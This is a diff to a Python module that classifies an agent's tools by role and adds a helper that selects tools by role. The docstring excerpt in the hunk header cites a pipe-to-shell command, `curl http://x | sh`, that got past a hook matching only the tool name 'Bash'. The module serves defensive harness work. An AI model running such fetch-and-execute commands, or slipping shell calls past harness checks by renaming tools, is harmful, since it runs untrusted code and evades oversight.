@@ -10,7 +10,7 @@ that watched only the exact name ``Bash`` let ``bash("curl http://x | sh")`` thr
 
 from __future__ import annotations
 
-from collections.abc import Mapping
+from collections.abc import Mapping, Sequence
 from typing import Literal, get_args
 
 Role = Literal["shell", "file_read", "file_write", "search", "network", "other"]
@@ -54,3 +54,10 @@ def role_of(name: str, declared: str | None = None) -> str:
 def roles_of(declarations: Mapping[str, str | None]) -> dict[str, str]:
     """Name → role for a registry's tools (``{name: declared role or None}``)."""
     return {name: role_of(name, declared) for name, declared in declarations.items()}
+
+
+def with_roles(names: Sequence[str], roles: Mapping[str, str], *wanted: str) -> list[str]:
+    """``names`` (kept first, in order) and every tool whose role is one of ``wanted``."""
+    out = list(names)
+    out += [name for name, role in roles.items() if role in wanted and name not in out]
+    return out
